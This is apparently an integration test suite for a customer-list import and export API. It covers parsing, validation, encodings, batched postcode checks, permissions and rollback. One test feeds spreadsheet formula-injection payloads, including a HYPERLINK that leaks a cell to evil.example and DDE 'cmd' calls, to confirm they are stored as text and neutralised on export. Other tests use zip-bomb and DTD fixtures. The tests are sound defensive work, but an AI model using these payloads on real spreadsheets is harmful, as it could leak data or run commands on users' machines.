import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { IMPORT_MESSAGES, parseCsv } from '@lp/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { letterDocx, zip } from '../../test/fixtures/letters.js';
import { multipart, xlsx } from '../../test/fixtures/spreadsheets.js';
import {
  type Agent,
  addMember,
  createTestContext,
  databaseFingerprint,
  signUpCompany,
  type TestContext,
} from '../../test/harness.js';

let t: TestContext;
beforeAll(async () => {
  t = await createTestContext({ POSTCODE_SERVICE_URL: 'sandbox' });
});
afterAll(() => t.close());

function send(agent: Agent, url: string, file: Buffer | string, mapping?: unknown, filename = 'customers.csv') {
  // The mapping comes after the file, as a FormData built file-first sends it.
  const { body, contentType } = multipart([
    { name: 'file', filename, data: file },
    ...(mapping === undefined ? [] : [{ name: 'mapping', data: JSON.stringify(mapping) }]),
  ]);
  return agent.request('POST', url, body, { 'content-type': contentType });
}
const importFile = (agent: Agent, file: Buffer | string, mapping?: unknown, filename?: string) =>
  send(agent, '/api/customers/import', file, mapping, filename);
const preview = (agent: Agent, file: Buffer | string, filename?: string) =>
  send(agent, '/api/customers/import/preview', file, undefined, filename);

interface StoredRow {
  name: string;
  address_lines: string[];
  postcode: string | null;
  email: string | null;
  phone: string | null;
  communications_preference: string[];
  match_key: string;
}
async function stored(accountId: string, on: TestContext = t): Promise<StoredRow[]> {
  const { rows } = await on.services.pool.query<StoredRow>(
    `select name, address_lines, postcode, email, phone, communications_preference, match_key
       from customers where account_id = $1`,
    [accountId],
  );
  // By code point, whatever the database's collation.
  return rows.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
}
const names = async (accountId: string, on: TestContext = t) => (await stored(accountId, on)).map((c) => c.name);

describe('customer import', () => {
  it('imports good rows, updates by email or by name and postcode, refuses bad and duplicate rows with their row numbers', async () => {
    const { agent, me } = await signUpCompany(t.app);
    await agent.post('/api/customers', {
      name: 'Ann Existing',
      postcode: 'LS1 5HD',
      email: 'ann@example.com',
      phone: '07700900001',
      communications_preference: ['Email'],
    });
    await agent.post('/api/customers', {
      name: 'Bob Existing',
      address_lines: ['1 Old Road', 'Bristol'],
      postcode: 'BS8 2QT',
    });
    const file = [
      'Name,Address line 1,Town,Postcode,Email,Phone,Preferences',
      'Carla New,1 New Street,Leeds,ls1 4ap,carla@example.com,07700 900123,Email; SMS',
      'Ann Changed,,,,ANN@example.com,,',
      'Bob Existing,2 New Road,Bristol,BS8 2QT,bob@example.com,,post',
      'Carla Again,,,,carla@example.com,,',
      ',1 Nameless Road,,,,,',
      'Dan Bad,,,,dan@,,',
      'Eve Bad,,,BS8,,,',
      'Fay Nowhere,,,ZZ1 1ZZ,,,',
      'Gus Phone,,,,,12345,',
      'bob  existing,,,bs82qt,,,',
      'Hal Prefs,,,,,,Fax',
      ',,,,,,',
      ',,,,,,',
      '',
    ].join('\n');

    const look = await preview(agent, file);
    expect(look.statusCode, look.body).toBe(200);
    expect(look.json()).toMatchObject({
      format: { kind: 'csv', delimiter: ',', encoding: 'utf-8' },
      headers: ['Name', 'Address line 1', 'Town', 'Postcode', 'Email', 'Phone', 'Preferences'],
      mapping: {
        Name: 'name',
        'Address line 1': 'address_line_1',
        Town: 'town',
        Postcode: 'postcode',
        Email: 'email',
        Phone: 'phone',
        Preferences: 'preferences',
      },
      rows_total: 11,
    });
    expect(look.json().sample).toHaveLength(5);
    expect(look.json().sample[0]).toEqual({
      row: 2,
      values: ['Carla New', '1 New Street', 'Leeds', 'ls1 4ap', 'carla@example.com', '07700 900123', 'Email; SMS'],
    });

    const res = await importFile(agent, file);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({
      imported: 1,
      updated: 2,
      unchanged: 0,
      total: 11,
      refused: [
        { row: 5, reason: 'Same email as row 2: a customer is imported once per file' },
        { row: 6, reason: 'Name - This field is required' },
        { row: 7, reason: 'Email - Must be a valid email address (dan@)' },
        { row: 8, reason: 'Postcode - Invalid Postcode (BS8)' },
        { row: 9, reason: 'Postcode - Invalid Postcode (ZZ1 1ZZ)' },
        { row: 10, reason: 'Phone - Must be a valid UK phone number (12345)' },
        { row: 11, reason: 'Same name and postcode as row 4: a customer is imported once per file' },
        {
          row: 12,
          reason: 'Communication preferences - "Fax" is not a preference (Mail, Email, SMS or Cloud storage)',
        },
      ],
    });
    expect(await stored(me.account.id)).toEqual([
      // Matched by email: the name changes, the blank cells keep what was stored.
      {
        name: 'Ann Changed',
        address_lines: [],
        postcode: 'LS1 5HD',
        email: 'ann@example.com',
        phone: '07700900001',
        communications_preference: ['Email'],
        match_key: 'ann changed|LS1 5HD',
      },
      // Matched by name and postcode: the address is replaced, the email added.
      {
        name: 'Bob Existing',
        address_lines: ['2 New Road', 'Bristol'],
        postcode: 'BS8 2QT',
        email: 'bob@example.com',
        phone: null,
        communications_preference: ['Mail'],
        match_key: 'bob existing|BS8 2QT',
      },
      {
        name: 'Carla New',
        address_lines: ['1 New Street', 'Leeds'],
        postcode: 'LS1 4AP',
        email: 'carla@example.com',
        phone: '07700 900123',
        communications_preference: ['Email', 'SMS'],
        match_key: 'carla new|LS1 4AP',
      },
    ]);

    // The same file again changes nothing, and says so.
    const before = await databaseFingerprint(t.services.pool);
    const again = await importFile(agent, file);
    expect(again.json()).toMatchObject({ imported: 0, updated: 0, unchanged: 3, total: 11 });
    expect(again.json().refused).toHaveLength(8);
    expect(await databaseFingerprint(t.services.pool)).toBe(before);
  });

  it('imports 10,000 rows in one go, and updates them all in a second', async () => {
    const { agent, me } = await signUpCompany(t.app);
    const inward = 'ABDEFGHJLNPQRSTUWXYZ';
    const file = (phone: (i: number) => string) =>
      [
        'Full name,Address 1,Address line 2,Town/City,Post code,E-mail,Mobile,Contact by',
        ...Array.from(
          { length: 10_000 },
          (_, i) =>
            `"Customer ${i} O'Neill",${i} High Street,"Flat ${i % 7}, Block B",Leeds,LS${(i % 27) + 1} ${i % 10}${inward[i % 20]}${inward[(i * 7) % 20]},customer${i}@example.com,${phone(i)},${['Mail', 'Email; SMS', 'SMS', 'post, email'][i % 4]}`,
        ),
      ].join('\r\n');
    const first = file((i) => `07700 9${String(i).padStart(5, '0')}`);
    expect(first.length).toBeGreaterThan(1_000_000);

    let started = performance.now();
    const res = await importFile(agent, first);
    const insertMs = performance.now() - started;
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.json()).toEqual({ imported: 10_000, updated: 0, unchanged: 0, refused: [], total: 10_000 });

    started = performance.now();
    const second = await importFile(
      agent,
      file((i) => `07700 8${String(i).padStart(5, '0')}`),
    );
    const updateMs = performance.now() - started;
    expect(second.json()).toMatchObject({ imported: 0, updated: 10_000, unchanged: 0, total: 10_000 });
    console.log(
      `customer import, 10,000 rows (${(first.length / 1024 / 1024).toFixed(1)} MB CSV): insert ${Math.round(insertMs)} ms, update ${Math.round(updateMs)} ms`,
    );

    const rows = await stored(me.account.id);
    expect(rows).toHaveLength(10_000);
    const c = rows.find((r) => r.email === 'customer4321@example.com')!;
    expect(c).toMatchObject({
      name: "Customer 4321 O'Neill",
      address_lines: ['4321 High Street', 'Flat 2, Block B', 'Leeds'],
      postcode: 'LS2 1BJ',
      phone: '07700 804321',
      communications_preference: ['Email', 'SMS'],
    });
  });

  it('stores a formula injection attempt as text, and exports it neutralised', async () => {
    const { agent, me } = await signUpCompany(t.app);
    const file = [
      'Name,Address line 1,Town,Postcode,Email,Phone',
      '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",+1 Road,@Leeds,LS1 5HD,eve@example.com,',
      `-Minus Person,"=cmd|' /C calc'!A0",Leeds,,,+44 7700 900123`,
      '"@SUM(1+1)*cmd|\' /C calc\'!A0",\tTabbed,Leeds,,,',
    ].join('\r\n');
    const res = await importFile(agent, file);
    expect(res.json()).toMatchObject({ imported: 3, refused: [] });
    expect(await stored(me.account.id)).toMatchObject([
      {
        name: '-Minus Person',
        address_lines: ["=cmd|' /C calc'!A0", 'Leeds'],
        phone: '+44 7700 900123',
      },
      {
        name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        address_lines: ['+1 Road', '@Leeds'],
      },
      { name: "@SUM(1+1)*cmd|' /C calc'!A0", address_lines: ['Tabbed', 'Leeds'] },
    ]);

    const exported = await agent.get('/api/customers/export.csv');
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(exported.headers['content-disposition']).toBe('attachment; filename="customers.csv"');
    expect(exported.body.startsWith('\uFEFFName,Address line 1,')).toBe(true);
    expect(exported.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    const cells = parseCsv(exported.body).rows.flatMap((r) => r.cells);
    expect(cells).toContain("'-Minus Person");
    expect(cells).toContain("'+44 7700 900123");
    expect(cells).toContain("'@Leeds");
    // No cell a spreadsheet would run as a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    // What was exported imports back as it is.
    const before = await databaseFingerprint(t.services.pool);
    const back = await importFile(agent, exported.rawPayload);
    expect(back.json()).toMatchObject({ imported: 0, updated: 0, unchanged: 3, refused: [] });
    expect(await databaseFingerprint(t.services.pool)).toBe(before);
  });

  it('takes the mapping chosen in the preview: unknown headers mapped, others ignored', async () => {
    const { agent, me } = await signUpCompany(t.app);
    const file = 'Who,Where,Notes,Mobile\nAnn Lee,"1 Park Row\nLeeds",VIP,07700900123\n';
    const look = (await preview(agent, file)).json();
    expect(look.mapping).toEqual({ Who: null, Where: null, Notes: null, Mobile: 'phone' });
    const refused = await importFile(agent, file);
    expect(refused.statusCode).toBe(422);
    expect(refused.json().message).toBe(IMPORT_MESSAGES.noName);
    const res = await importFile(agent, file, { Who: 'name', Where: 'address_line_1', Mobile: null });
    expect(res.json()).toMatchObject({ imported: 1 });
    expect(await stored(me.account.id)).toMatchObject([
      { name: 'Ann Lee', address_lines: ['1 Park Row', 'Leeds'], phone: null },
    ]);
    for (const [mapping, message] of [
      [{ Nope: 'name' }, 'The file has no column "Nope".'],
      [{ Who: 'fax' }, '"fax" is not a field a column can be imported as.'],
      [['name'], 'The mapping must be a JSON object of column name → field (or null).'],
    ] as const) {
      const bad = await importFile(agent, file, mapping);
      expect(bad.statusCode).toBe(422);
      expect(bad.json().message).toBe(message);
    }
  });
});

describe('what users really bring', () => {
  it("Excel's CSV UTF-8: a byte-order mark, CRLF, header variants, a phone that lost its 0, blank trailing rows", async () => {
    const { agent, me } = await signUpCompany(t.app);
    const file = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(
        [
          'Full name,Address 1,Address line 2,Town/City,Post code,E-mail,Mobile,Contact by',
          `"O'Neill, Siobhán",12 Acacia Avenue,Clifton,Bristol,BS8 2QT,siobhan@example.co.uk,7700900123,Mail; SMS`,
          'Zoë Brontë,"Flat 1, 2 Haworth Lane",,Keighley,BD22 8DR,ZOE@example.com,,email',
          ',,,,,,,',
          ',,,,,,,',
          '',
        ].join('\r\n'),
      ),
    ]);
    expect((await importFile(agent, file)).json()).toMatchObject({ imported: 2, refused: [], total: 2 });
    expect(await stored(me.account.id)).toMatchObject([
      {
        name: "O'Neill, Siobhán",
        address_lines: ['12 Acacia Avenue', 'Clifton', 'Bristol'],
        phone: '07700900123',
        communications_preference: ['Mail', 'SMS'],
      },
      {
        name: 'Zoë Brontë',
        address_lines: ['Flat 1, 2 Haworth Lane', 'Keighley'],
        email: 'zoe@example.com',
        communications_preference: ['Email'],
      },
    ]);
  });

  it("Excel's plain CSV in Windows-1252 (é and £ as single bytes)", async () => {
    const { agent, me } = await signUpCompany(t.app);
    const text = 'Customer,Address,Town,Postcode\r\nRenée Dupré,"The £1 Shop, 5 Market Street",York,YO1 8RS\r\n';
    const file = Buffer.from(text, 'latin1');
    expect(file.includes(0xe9) && file.includes(0xa3)).toBe(true);
    expect((await preview(agent, file)).json().format).toEqual({
      kind: 'csv',
      delimiter: ',',
      encoding: 'windows-1252',
    });
    expect((await importFile(agent, file)).json()).toMatchObject({ imported: 1, refused: [] });
    expect(await stored(me.account.id)).toMatchObject([
      { name: 'Renée Dupré', address_lines: ['The £1 Shop, 5 Market Street', 'York'] },
    ]);
  });

  it('semicolon-separated CSV (European Excel), with commas in the values', async () => {
    const { agent, me } = await signUpCompany(t.app);
    const file = Buffer.from(
      'Name;Address line 1;Town;Post code;Telephone;Preferences\r\nSmith, Jones & Co;Unit 7, Canal Wharf;Leeds;LS11 5PS;0113 496 0000;"Mail; Email"\r\n',
      'latin1',
    );
    expect((await preview(agent, file)).json().format.delimiter).toBe(';');
    expect((await importFile(agent, file)).json()).toMatchObject({ imported: 1, refused: [] });
    expect(await stored(me.account.id)).toMatchObject([
      {
        name: 'Smith, Jones & Co',
        address_lines: ['Unit 7, Canal Wharf', 'Leeds'],
        postcode: 'LS11 5PS',
        phone: '0113 496 0000',
        communications_preference: ['Mail', 'Email'],
      },
    ]);
  });

  it('Google Sheets CSV: LF, quoted fields with commas, line breaks and doubled quotes', async () => {
    const { agent, me } = await signUpCompany(t.app);
    const file = [
      'Customer name,Street,Town,Postcode,Email address,Phone number,Communication preferences',
      '"Patrick ""Paddy"" O\'Brien","Flat 3\n1 Park Row",Leeds,LS1 5HD,paddy@example.ie,+44 (0) 7700 900456,"Email, Text"',
      'Seán Ó Súilleabháin,"2 Quay Street, Old Town",Galway Road,LS2 7EW,,,',
    ].join('\n');
    expect((await importFile(agent, file)).json()).toMatchObject({ imported: 2, refused: [] });
    expect(await stored(me.account.id)).toMatchObject([
      {
        name: 'Patrick "Paddy" O\'Brien',
        address_lines: ['Flat 3', '1 Park Row', 'Leeds'],
        email: 'paddy@example.ie',
        phone: '+44 7700 900456',
        communications_preference: ['Email', 'SMS'],
      },
      { name: 'Seán Ó Súilleabháin', address_lines: ['2 Quay Street, Old Town', 'Galway Road'], postcode: 'LS2 7EW' },
    ]);
  });

  it('a real .xlsx: shared and inline strings, a phone stored as a number, a formula’s cached text, a gap between rows', async () => {
    const { agent, me } = await signUpCompany(t.app);
    const file = xlsx([
      ['Name', 'Address line 1', 'Town', 'Postcode', 'Email', 'Mobile', 'Preferences'],
      ["Dr Siobhán O'Neill", '12 Acacia Avenue', 'Bristol', 'BS8 2QT', 'siobhan@example.co.uk', 7700900123, 'SMS'],
      [{ inline: 'Zoë Brontë' }, { inline: '1 Haworth Lane' }, 'Keighley', 'BD22 8DR', null, 447700900456, null],
      null,
      [{ formula: 'CONCAT("Grace ","Hopper")', cached: 'Grace Hopper' }, null, null, null, null, 1174960123],
      ['Bad Email', null, null, null, 'nope', null, null],
    ]);
    const look = await preview(agent, file, 'customers.xlsx');
    expect(look.statusCode, look.body).toBe(200);
    expect(look.json()).toMatchObject({
      format: { kind: 'xlsx', sheet: 'Customers' },
      headers: ['Name', 'Address line 1', 'Town', 'Postcode', 'Email', 'Mobile', 'Preferences'],
      rows_total: 4,
    });
    expect(look.json().sample[0].values[5]).toBe('7700900123');
    const res = await importFile(agent, file, undefined, 'customers.xlsx');
    expect(res.json()).toEqual({
      imported: 3,
      updated: 0,
      unchanged: 0,
      total: 4,
      refused: [{ row: 6, reason: 'Email - Must be a valid email address (nope)' }],
    });
    expect(await stored(me.account.id)).toMatchObject([
      {
        name: "Dr Siobhán O'Neill",
        address_lines: ['12 Acacia Avenue', 'Bristol'],
        phone: '07700900123',
        communications_preference: ['Mail', 'SMS'],
      },
      { name: 'Grace Hopper', phone: '01174960123' },
      { name: 'Zoë Brontë', address_lines: ['1 Haworth Lane', 'Keighley'], phone: '+447700900456' },
    ]);
  });
});

describe('refusals', () => {
  it('refuses what cannot be imported with a clear message, importing nothing', async () => {
    const { agent, me } = await signUpCompany(t.app);
    const before = await databaseFingerprint(t.services.pool);
    const header = 'Name,Email\n';
    const cases: Array<[string, Buffer | string, number, string, string?]> = [
      ['larger than 10 MB', `${header}${'x'.repeat(10 * 1024 * 1024)}`, 413, IMPORT_MESSAGES.tooLarge],
      [
        'more than 50,000 customers',
        header + Array.from({ length: 50_001 }, (_, i) => `C${i}`).join('\n'),
        422,
        IMPORT_MESSAGES.tooManyRows(50_000, true),
      ],
      ['a PDF', Buffer.from('%PDF-1.7\n...'), 415, IMPORT_MESSAGES.onlyCsvOrXlsx],
      [
        'an image',
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
        415,
        IMPORT_MESSAGES.onlyCsvOrXlsx,
      ],
      [
        'an Excel 97-2003 workbook',
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
        415,
        IMPORT_MESSAGES.oldExcel,
      ],
      [
        'a Word document',
        await letterDocx(['Ann', '1 Road']),
        422,
        'Make sure the file is a standard Excel spreadsheet (.xlsx): re-save it and upload it again.',
        'customers.xlsx',
      ],
      [
        'a zip bomb as a sheet',
        zip([
          { name: '[Content_Types].xml', data: '<Types/>' },
          { name: 'xl/workbook.xml', data: '<workbook><sheets><sheet name="S" r:id="rId1"/></sheets></workbook>' },
          { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(20 * 1024 * 1024) },
        ]),
        422,
        'The spreadsheet is too large once unpacked (a possible zip bomb).',
        'customers.xlsx',
      ],
      [
        'a sheet with a DTD',
        zip([
          { name: '[Content_Types].xml', data: '<Types/>' },
          { name: 'xl/workbook.xml', data: '<!DOCTYPE x [<!ENTITY a "b">]><workbook/>' },
        ]),
        422,
        'Make sure the file is a standard Excel spreadsheet (.xlsx): re-save it and upload it again.',
        'customers.xlsx',
      ],
      ['an empty file', '', 422, IMPORT_MESSAGES.empty],
      ['blank rows only', ',,,\r\n,,\r\n', 422, IMPORT_MESSAGES.empty],
      ['a header alone', header, 422, IMPORT_MESSAGES.noRows],
      [
        'a quote never closed',
        `${header}"Ann,a@example.com\nBob,b@example.com\n`,
        422,
        IMPORT_MESSAGES.unclosedQuote(2),
      ],
      ['no name column', 'Email,Phone\na@example.com,\n', 422, IMPORT_MESSAGES.noName],
    ];
    for (const [what, file, status, message, filename] of cases) {
      const res = await importFile(agent, file, undefined, filename);
      expect(res.statusCode, `${what}: ${res.body.slice(0, 200)}`).toBe(status);
      expect(res.json().message, what).toBe(message);
    }
    // Without the file.
    const { body, contentType } = multipart([{ name: 'mapping', data: '{}' }]);
    const none = await agent.request('POST', '/api/customers/import', body, { 'content-type': contentType });
    expect([none.statusCode, none.json().message]).toEqual([422, IMPORT_MESSAGES.attachFile]);
    const json = await agent.post('/api/customers/import', { file: 'Name\nAnn' });
    expect([json.statusCode, json.json().message]).toEqual([422, IMPORT_MESSAGES.attachFile]);
    expect(await databaseFingerprint(t.services.pool)).toBe(before);
    expect(await names(me.account.id)).toEqual([]);
  });

  it('rolls back every row when the database fails on one', async () => {
    const { agent, me } = await signUpCompany(t.app);
    await agent.post('/api/customers', { name: 'Kept As Is', email: 'kept@example.com' });
    const pool = t.services.pool;
    await pool.query(`create function import_boom() returns trigger language plpgsql as $$
      begin if new.name = 'Boom' then raise exception 'boom'; end if; return new; end $$`);
    await pool.query(
      'create trigger import_boom before insert or update on customers for each row execute function import_boom()',
    );
    try {
      const rows = Array.from({ length: 500 }, (_, i) => (i === 399 ? 'Boom,' : `Row ${i},`));
      const res = await importFile(agent, ['Name,Email', 'Kept Renamed,kept@example.com', ...rows].join('\n'));
      expect(res.statusCode).toBe(500);
    } finally {
      await pool.query('drop trigger import_boom on customers');
      await pool.query('drop function import_boom()');
    }
    expect(await names(me.account.id)).toEqual(['Kept As Is']);
  });

  it('lets only manage_recipients import; see_recipients may export', async () => {
    const { me } = await signUpCompany(t.app);
    const reader = await addMember(t, me.account.id, { permissions: { observable: ['see_recipients'] } });
    expect((await importFile(reader.agent, 'Name\nAnn\n')).statusCode).toBe(403);
    expect((await preview(reader.agent, 'Name\nAnn\n')).statusCode).toBe(403);
    const exported = await reader.agent.get('/api/customers/export.csv');
    expect([exported.statusCode, exported.body]).toEqual([
      200,
      '\uFEFFName,Address line 1,Address line 2,Address line 3,Address line 4,Town,County,Postcode,Email,Phone,Communication preferences\r\n',
    ]);
  });
});

describe('with a postcode service speaking postcodes.io', () => {
  const requests: string[][] = [];
  let failing = false;
  // POST /postcodes { postcodes } -> { result: [{ query, result }] }, result null when it does not exist.
  const service = createServer((req, res) => {
    let raw = '';
    req.on('data', (c) => {
      raw += c;
    });
    req.on('end', () => {
      res.setHeader('content-type', 'application/json');
      if (failing || req.method !== 'POST' || req.url !== '/postcodes') {
        res.statusCode = 500;
        res.end('{}');
        return;
      }
      const { postcodes } = JSON.parse(raw) as { postcodes: string[] };
      requests.push(postcodes);
      res.end(
        JSON.stringify({
          status: 200,
          result: postcodes.map((query) => ({
            query,
            result: query === 'SW1A 9ZZ' ? null : { postcode: query },
          })),
        }),
      );
    });
  });
  let s: TestContext;
  beforeAll(async () => {
    service.listen(0, '127.0.0.1');
    await once(service, 'listening');
    s = await createTestContext({
      POSTCODE_SERVICE_URL: `http://127.0.0.1:${(service.address() as AddressInfo).port}`,
    });
  });
  afterAll(async () => {
    await s.close();
    service.close();
  });

  it('asks for the distinct postcodes in bulk, 100 a request, and refuses those that do not exist', async () => {
    const { agent, me } = await signUpCompany(s.app);
    const rows = Array.from(
      { length: 250 },
      (_, i) =>
        `Person ${i},SW1A ${i % 10}${'ABDEFGHJLN'[Math.floor(i / 10) % 10]}${'PQRSTUWXYZ'[Math.floor(i / 100)]}`,
    );
    const file = ['Name,Postcode', ...rows, 'Twice,sw1a 0ap', 'Missing,SW1A 9ZZ'].join('\n');
    const res = await importFile(agent, file);
    expect(res.json()).toMatchObject({
      imported: 251,
      refused: [{ row: 253, reason: 'Postcode - Invalid Postcode (SW1A 9ZZ)' }],
    });
    const asked = requests.flat();
    expect(asked).toHaveLength(251);
    expect(new Set(asked).size).toBe(251);
    expect(requests.map((r) => r.length).sort((a, b) => b - a)).toEqual([100, 100, 51]);
    expect((await names(me.account.id, s)).length).toBe(251);
  });

  it('imports nothing when the service cannot answer (503)', async () => {
    const { agent, me } = await signUpCompany(s.app);
    failing = true;
    try {
      const res = await importFile(agent, 'Name,Postcode\nAnn,SW1A 1AA\nBob,\n');
      expect(res.statusCode).toBe(503);
      expect(res.json().message).toBe('The postcodes could not be checked now. Try again in a moment.');
    } finally {
      failing = false;
    }
    expect(await names(me.account.id, s)).toEqual([]);
  });
});
